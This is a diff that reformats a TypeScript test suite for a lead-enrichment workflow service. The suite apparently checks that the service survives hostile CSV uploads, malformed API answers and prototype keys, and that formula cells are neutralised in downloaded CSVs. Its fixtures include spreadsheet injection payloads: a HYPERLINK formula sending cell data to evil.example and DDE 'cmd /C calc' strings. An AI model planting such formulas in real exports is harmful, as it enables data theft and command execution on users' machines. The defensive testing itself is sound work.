@@ -57,7 +57,12 @@ async function expectStillServing() {
 /** The answer kinds below, keyed by the lead's name (`Lead <kind>`). */
 const DEEP = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
 const ENRICH: Record<string, (() => FakeAnswer) | undefined> = {
-	nested: () => ({ body: { structured_data: { title: { role: { name: 'CTO', since: [2020, 2021] } }, is_american_education: [true] }, confidence_score: 7 } }),
+	nested: () => ({
+		body: {
+			structured_data: { title: { role: { name: 'CTO', since: [2020, 2021] } }, is_american_education: [true] },
+			confidence_score: 7
+		}
+	}),
 	strings: () => ({ body: { structured_data: { title: 42, is_american_education: 'yes' }, confidence_score: '8.5' } }),
 	nulls: () => ({ body: { structured_data: { title: null, is_american_education: null }, confidence_score: null } }),
 	missing: () => ({ body: { structured_data: {} } }),
@@ -72,7 +77,9 @@ const ENRICH: Record<string, (() => FakeAnswer) | undefined> = {
 	huge: () => ({ body: { structured_data: { title: 'x'.repeat(200_000), is_american_education: false }, confidence_score: 1 } }),
 	deep: () => ({ body: `{"structured_data":{"title":${DEEP},"is_american_education":true},"confidence_score":3}` }),
 	infinite: () => ({ body: '{"structured_data":{"title":"CEO","is_american_education":true},"confidence_score":1e999}' }),
-	formula: () => ({ body: { structured_data: { title: '=HYPERLINK("http://evil.example","click")', is_american_education: true }, confidence_score: 9 } }),
+	formula: () => ({
+		body: { structured_data: { title: '=HYPERLINK("http://evil.example","click")', is_american_education: true }, confidence_score: 9 }
+	}),
 	good: () => ({ body: { structured_data: { title: 'Engineer', is_american_education: false }, confidence_score: 6 } })
 };
 const EMAIL: Record<string, FakeAnswer['body']> = {
@@ -88,7 +95,12 @@ const EMAIL: Record<string, FakeAnswer['body']> = {
 	formula: { email: [['=cmd|"/C calc"!A0', 'OK', 'COMPANY']] }
 };
 const KINDS = Object.keys(ENRICH);
-const kindOf = (body: unknown) => String((body as { lead_info?: { name?: string }; lead?: { name?: string } })?.lead_info?.name ?? (body as { lead?: { name?: string } })?.lead?.name ?? '').replace(/^Lead /, '');
+const kindOf = (body: unknown) =>
+	String(
+		(body as { lead_info?: { name?: string }; lead?: { name?: string } })?.lead_info?.name ??
+			(body as { lead?: { name?: string } })?.lead?.name ??
+			''
+	).replace(/^Lead /, '');
 
 beforeAll(async () => {
 	fake = await startFakeSixtyfour((request) => {
@@ -118,12 +130,19 @@ describe('hostile CSV files', () => {
 		expect(res.status).toBe(200);
 		const body = await res.json();
 		expect(body.preview).toEqual([{ name: 'José', city: 'München' }]);
-		expect(body.dialect).toMatchObject({ encoding: 'windows-1252', encoding_detected: true, encoding_note: expect.stringMatching(/Windows-1252/) });
+		expect(body.dialect).toMatchObject({
+			encoding: 'windows-1252',
+			encoding_detected: true,
+			encoding_note: expect.stringMatching(/Windows-1252/)
+		});
 		await expectStillServing();
 	});
 
 	it('…and one an operator put in uploads/ by hand runs the same, the bytes decoded as Windows-1252', async () => {
-		await writeFile(join(temp.dir, 'uploads', 'by-hand.csv'), Uint8Array.from([...Buffer.from('name,city\nJos'), 0xe9, ...Buffer.from(',Paris\n')]));
+		await writeFile(
+			join(temp.dir, 'uploads', 'by-hand.csv'),
+			Uint8Array.from([...Buffer.from('name,city\nJos'), 0xe9, ...Buffer.from(',Paris\n')])
+		);
 		const job = await run([{ id: 'r', type: 'read_csv', params: { path: 'uploads/by-hand.csv' } }]);
 		expect(job.status).toBe('completed');
 		const rows = (await (await api(`/workflows/jobs/${job.job_id}/rows`)).json()).rows;
@@ -138,7 +157,9 @@ describe('hostile CSV files', () => {
 		expect(res.status).toBe(400);
 		expect((await res.json()).error.message).toMatch(/100000 columns; at most 1000/);
 		await writeFile(join(temp.dir, 'uploads', 'wide.csv'), content);
-		const ran = await postJson('/workflows/run', { workflow: { name: 'wide', blocks: [{ id: 'r', type: 'read_csv', params: { path: 'uploads/wide.csv' } }] } });
+		const ran = await postJson('/workflows/run', {
+			workflow: { name: 'wide', blocks: [{ id: 'r', type: 'read_csv', params: { path: 'uploads/wide.csv' } }] }
+		});
 		if (ran.status === 200) {
 			const job = await settle((await ran.json()).job_id);
 			expect(['completed', 'failed']).toContain(job.status);
@@ -172,7 +193,7 @@ describe('hostile CSV files', () => {
 	describe('formula cells come out neutralised in every downloaded CSV', () => {
 		const FORMULAS: [string, string][] = [
 			['=HYPERLINK("http://evil.example/?q="&A1,"Click")', `'=HYPERLINK("http://evil.example/?q="&A1,"Click")`],
-			['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
+			["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
 			['-2+3', "'-2+3"],
 			['@SUM(A1)', "'@SUM(A1)"],
 			['\t=1+1', "'\t=1+1"],
@@ -195,7 +216,10 @@ describe('hostile CSV files', () => {
 		const expectNeutralised = (text: string, where: string) => {
 			const records = parse(text, { relax_column_count: true }) as string[][];
 			expect(records[0], where).toEqual(['name', 'payload', "'=header"]);
-			expect(records.slice(1).map((r) => r[1]), where).toEqual(FORMULAS.map(([, out]) => out));
+			expect(
+				records.slice(1).map((r) => r[1]),
+				where
+			).toEqual(FORMULAS.map(([, out]) => out));
 		};
 
 		it('the save_csv output (file on disk and download)', async () => {
@@ -229,7 +253,11 @@ describe('enrichment answers of unexpected types', () => {
 		expect(res.status).toBe(200);
 		const job = await run([
 			{ id: 'r', type: 'read_csv', params: { path: (await res.json()).file_path } },
-			{ id: 'e', type: 'enrich_lead', params: { struct: { title: 'Job title', is_american_education: { description: 'US undergrad', type: 'bool' } } } },
+			{
+				id: 'e',
+				type: 'enrich_lead',
+				params: { struct: { title: 'Job title', is_american_education: { description: 'US undergrad', type: 'bool' } } }
+			},
 			{ id: 'm', type: 'find_email', params: { mode: 'PROFESSIONAL', only_missing: false } },
 			{ id: 's', type: 'save_csv', params: { filename: 'answers' } }
 		]);
@@ -242,7 +270,9 @@ describe('enrichment answers of unexpected types', () => {
 		for (const row of rows) {
 			expect(row).toHaveProperty('title');
 			expect(row).toHaveProperty('email_status');
-			for (const reason of String(row._error ?? '').split(/ \| (?=(?:Enrich Lead|Find Email): )/).filter(Boolean)) {
+			for (const reason of String(row._error ?? '')
+				.split(/ \| (?=(?:Enrich Lead|Find Email): )/)
+				.filter(Boolean)) {
 				expect(reason).toMatch(/^(Enrich Lead|Find Email): (POST \/(enrich-lead|find-email): )?unexpected answer shape \(.+\)$/);
 			}
 		}
@@ -259,7 +289,8 @@ describe('enrichment answers of unexpected types', () => {
 		expect(errorOf('deep')).toBe('Enrich Lead: unexpected answer shape (a value nested too deeply to keep)');
 		expect(byKind.deep.company).toBe('Acme');
 		expect(byKind.good).toMatchObject({ title: 'Engineer', is_american_education: false, _confidence: 6, email_status: 'OK' });
-		for (const kind of ['nested', 'nulls', 'missing', 'proto', 'huge', 'good', 'formula']) expect(errorOf(kind), kind).not.toMatch(/Enrich Lead/);
+		for (const kind of ['nested', 'nulls', 'missing', 'proto', 'huge', 'good', 'formula'])
+			expect(errorOf(kind), kind).not.toMatch(/Enrich Lead/);
 		// A value hidden behind a __proto__ key never surfaces as if the API had answered it.
 		expect(byKind.proto_only.title ?? null).toBeNull();
 		expect(byKind.proto_only.is_american_education ?? null).toBeNull();
